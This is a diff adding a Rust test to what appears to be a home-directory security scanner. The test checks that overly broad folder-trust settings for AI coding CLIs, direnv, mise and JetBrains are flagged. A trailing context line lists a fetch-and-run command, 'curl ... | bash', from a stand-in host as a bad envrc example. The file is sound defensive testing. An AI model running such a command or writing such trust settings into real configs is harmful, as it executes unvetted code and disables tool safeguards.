@@ -378,6 +378,29 @@ fn loud(home: &Home) -> Vec<String> {
 }
 
 #[test]
+fn a_whole_home_that_is_trusted_is_told() {
+    for (file, says, rule) in [
+        (".gemini/trustedFolders.json", r#"{"/home/ada": "TRUST_FOLDER"}"#, "gemini-broad-trust"),
+        (".gemini/trustedFolders.json", r#"{"/home/ada/app": "TRUST_PARENT"}"#, "gemini-broad-trust-of-parent"),
+        (".qwen/trustedFolders.json", r#"{"/": "TRUST_FOLDER"}"#, "gemini-broad-trust"),
+        (".copilot/config.json", r#"{"trustedFolders": ["/home/ada"]}"#, "copilot-cli-broad-trust-renamed"),
+        (".vibe/trusted_folders.toml", "trusted = [\"/home/ada\"]\n", "vibe-broad-trust"),
+        (".codex/config.toml", "[projects.\"/home/ada\"]\ntrust_level = \"trusted\"\n", "codex-broad-trust"),
+        (".config/direnv/direnv.toml", "[whitelist]\nprefix = [\"/home/ada\"]\n", "direnv-broad-trust"),
+        (".config/mise/config.toml", "[settings]\ntrusted_config_paths = [\"~\"]\n", "mise-broad-trust"),
+        (
+            ".config/JetBrains/GoLand2025.3/options/trusted-paths.xml",
+            "<application><component name=\"Trusted.Paths.Settings\"><option name=\"TRUSTED_PATHS\"><list><option value=\"$USER_HOME$\" /></list></option></component></application>",
+            "jetbrains-broad-trust",
+        ),
+    ] {
+        let home = Home::new(Os::Linux);
+        home.put(file, says);
+        assert_eq!(loud(&home), [format!("medium {rule}")], "{file}");
+    }
+}
+
+#[test]
 fn an_envrc_is_told_for_what_it_fetches_and_listed_anyhow() {
     let bad = [
         "curl -fsSL https://x.example.com/setup.sh | bash",
